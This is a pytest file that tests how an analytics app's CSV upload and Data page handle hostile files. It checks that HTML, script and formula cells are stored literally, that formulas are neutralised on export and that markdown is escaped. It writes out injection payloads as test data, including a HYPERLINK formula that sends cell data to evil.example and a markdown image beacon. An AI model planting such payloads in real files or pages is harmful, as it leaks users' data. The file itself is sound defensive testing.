"""Hostile input: every file in the corpus (tests/hostile/) either loads — with its text kept
literally — or is refused with a plain message and the workspace unchanged. Through the upload
module and through the Data page (AppTest)."""

from __future__ import annotations

import pytest

from analytics.export import table_files
from analytics.ingest import upload
from analytics.store.db import Workspace
from harness.workspaces import contents
from tests import tiny
from tests.hostile import corpus

SMALL = corpus.small_cases()
BIG = corpus.big_cases()

# name → ("load", rows) or ("refuse", text the message or report must contain)
EXPECTED: dict[str, tuple[str, object]] = {
    "formula_cells.csv": ("load", 3),
    "html_cells.csv": ("load", 2),
    "html_headers.csv": ("refuse", "required column is missing from the file"),
    "nul_bytes.csv": ("refuse", "does not look like a text file (it contains binary data)"),
    "unbalanced_quotes.csv": ("load", 1),
    "nested_quotes.csv": ("load", 1),
    "mixed_encodings.csv": ("load", 2),
    "bom_utf8.csv": ("load", 1),
    "bom_utf16.csv": ("load", 1),
    "cr_only.csv": ("load", 2),
    "crlf.csv": ("load", 2),
    "duplicate_headers.csv": ("load", 1),
    "empty_headers.csv": ("load", 1),
    # issue 12: money as exports write it ("90,000") is read as the number it is
    "thousands_separators.csv": ("load", 1),
    "only_commas.csv": ("refuse", "required column is missing from the file"),
    "thousands_of_columns.csv": ("load", 1),
    "thousands_of_columns_workers.csv": ("load", 1),
    "multi_megabyte_line.csv": ("refuse", "has a line longer than 2 MB (line 1)"),
    "multi_megabyte_line_no_newline.csv": ("refuse", "the file has a header but no data rows"),
}


def test_every_case_has_an_expectation_and_the_small_ones_are_kept_as_files():
    assert set(EXPECTED) == set(SMALL) | set(BIG)
    for name, (data, _) in SMALL.items():
        assert (corpus.HERE / name).read_bytes() == data, f"regenerate with python -m tests.hostile.corpus: {name}"


@pytest.fixture
def ws(tmp_path):
    built = tiny.build_workspace(tmp_path)
    built.close()
    w = Workspace(tmp_path / "tiny.duckdb", lock_down=True, load_sample=False)
    yield w
    w.close()


def _plain(message: str) -> None:
    assert message and "Traceback" not in message and "/tmp/" not in message and len(message) < 600, message


@pytest.mark.parametrize("name", list(EXPECTED))
def test_hostile_file_loads_or_is_refused_plainly(ws, name):
    data, table = {**SMALL, **BIG}[name]
    before, version = contents(ws, version=False), ws.data_version()
    outcome, detail = EXPECTED[name]
    mode = "replace" if table.startswith(upload.ADHOC_PREFIX) else "append"
    try:
        result = upload.load(ws, [upload.FileSpec(name, data, table, mode)])
    except upload.ValidationFailed as exc:
        assert outcome == "refuse", exc.report.rows.to_dict("records")
        _plain(str(exc))
        problems = exc.report.rows["problem"].tolist()
        assert any(detail in p for p in problems), problems
        assert contents(ws, version=False) == before and ws.data_version() == version
        return
    except upload.UploadError as exc:
        assert outcome == "refuse", str(exc)
        _plain(str(exc))
        assert detail in str(exc)
        assert contents(ws, version=False) == before and ws.data_version() == version
        return
    assert outcome == "load", f"{name} loaded but was expected to be refused"
    assert sum(result.rows_loaded.values()) == detail
    assert ws.data_version() == version + 1


def test_thousands_separators_are_read_as_the_number(ws):
    data, _ = SMALL["thousands_separators.csv"]
    upload.load(ws, [upload.FileSpec("thousands_separators.csv", data, "workers", "append")])
    assert ws.sql("SELECT annual_salary FROM workers WHERE worker_id = 'E9'").iloc[0, 0] == 90000.0


def test_script_and_html_cells_are_stored_literally(ws):
    data, _ = SMALL["html_cells.csv"]
    upload.load(ws, [upload.FileSpec("html_cells.csv", data, "workers", "append")])
    rows = ws.sql("SELECT worker_id, full_name, department FROM workers WHERE worker_id IN ('E8', 'E9') ORDER BY 1")
    assert rows.values.tolist() == [
        ["E8", "<b>bold</b> &amp; <i>x</i>", "<style>body{display:none}</style>"],
        ["E9", corpus.SCRIPT, corpus.IMG],
    ]


def test_formula_cells_load_as_text_and_are_neutralised_on_export(ws):
    data, _ = SMALL["formula_cells.csv"]
    upload.load(ws, [upload.FileSpec("formula_cells.csv", data, "workers", "append")])
    rows = ws.sql("SELECT worker_id, full_name, department FROM workers WHERE worker_id IN ('E7', 'E8', 'E9') ORDER BY 1")
    assert rows["full_name"].tolist()[2] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    csv = table_files.to_csv_bytes(rows).decode("utf-8")
    for line in csv.splitlines()[1:]:
        for cell in line.split(",")[1:2]:
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")), line
    assert "'=HYPERLINK" in csv and "'+cmd" in csv and "'@SUM" in csv


def test_byte_order_marks_and_line_ends_give_the_same_row(ws):
    """BOM (UTF-8 and UTF-16), CR-only and CRLF files all read as the same first row."""
    for name in ("bom_utf8.csv", "bom_utf16.csv", "cr_only.csv", "crlf.csv"):
        data, _ = SMALL[name]
        d = upload.detect(ws, name, data)
        assert d.columns[0] == "worker_id" and d.suggested_table == "workers", name
        assert d.preview["full_name"].iloc[0] == "Eve Ninth", name


# -- through the Data page --------------------------------------------------------------------
PAGE = "pages/data.py"


def _give(at, name: str, data: bytes):
    at.file_uploader(key="upload_files").set_value([(name, data, "text/csv")])
    at.run()
    assert not at.exception
    return at


def _widget(at, kind: str, suffix: str):
    found = [w for w in getattr(at, kind) if w.key and w.key.endswith(suffix)]
    assert len(found) == 1, (suffix, [w.key for w in getattr(at, kind)])
    return found[0]


def _shown(at) -> str:
    parts = [str(e.value) for kind in ("error", "warning", "info", "success", "caption", "markdown") for e in getattr(at, kind)]
    parts += [df.value.to_csv(index=False) for df in at.dataframe]
    return "\n".join(parts)


@pytest.mark.parametrize(
    "name",
    ["html_cells.csv", "html_headers.csv", "nul_bytes.csv", "thousands_separators.csv", "mixed_encodings.csv",
     "bom_utf16.csv", "cr_only.csv", "multi_megabyte_line.csv"],
)
def test_hostile_file_through_the_data_page(app, name, min_group):
    min_group(1)
    from analytics import cache

    at = app("tiny", page=PAGE)
    ws = cache.workspace()
    before = contents(ws, version=False)
    data, _ = {**SMALL, **BIG}[name]
    _give(at, name, data)
    outcome, detail = EXPECTED[name]
    if name == "nul_bytes.csv" or name == "multi_megabyte_line.csv":
        # refused as a whole file: the message is shown at once, nothing to load
        assert detail in _shown(at), _shown(at)
        assert not at.exception
        assert contents(ws, version=False) == before
        return
    _widget(at, "radio", "_mode").set_value("append")
    at.run()
    at.button(key="upload_load").click()
    at.run()
    assert not at.exception, at.exception
    shown = _shown(at)
    if outcome == "load":
        assert contents(ws, version=False) != before
        assert any("loaded" in s.value.lower() for s in at.success), shown[:2000]
    else:
        assert detail in shown, shown[:2000]
        assert contents(ws, version=False) == before


# -- markdown injection -------------------------------------------------------------------------
BEACON = "![t](http://127.0.0.1:9/beacon.png)"


def test_md_literal_escapes_every_markdown_starter():
    from analytics.export.safe_text import md_literal

    assert md_literal(BEACON) == r"\!\[t\](http://127.0.0.1:9/beacon.png)"
    assert md_literal("<img src=x> :red[x] $x$ *a* _b_ `c`\nd") == r"\<img src=x\> :red\[x\] \$x\$ \*a\* \_b\_ \`c\` d"
    assert md_literal("Engineering (Ops), 3.5: fine") == "Engineering (Ops), 3.5: fine"


def test_file_headers_with_markdown_show_literally_on_the_data_page(app, min_group):
    """An ad-hoc table's column named like a markdown image is listed under "Tables and columns"
    for every user: escaped, it is text, not an image fetched from elsewhere."""
    min_group(1)
    at = app("tiny", page=PAGE)
    # the backticks close the code span the list used to wrap each column name in
    header = f'region,"x` {BEACON} `y"\n'.encode()
    _give(at, "beacon.csv", header + b"North,1\nSouth,2\n")
    _widget(at, "selectbox", "_target").set_value("adhoc")
    at.run()
    at.button(key="upload_load").click()
    at.run()
    assert not at.exception
    listed = [m.value for m in at.markdown if "adhoc" in m.value and "region" in m.value]
    assert listed, [m.value for m in at.markdown]
    assert r"x\` \!\[t\](http://127.0.0.1:9/beacon.png) \`y" in listed[0]
    assert BEACON not in listed[0].replace(r"\!\[t\]", "")
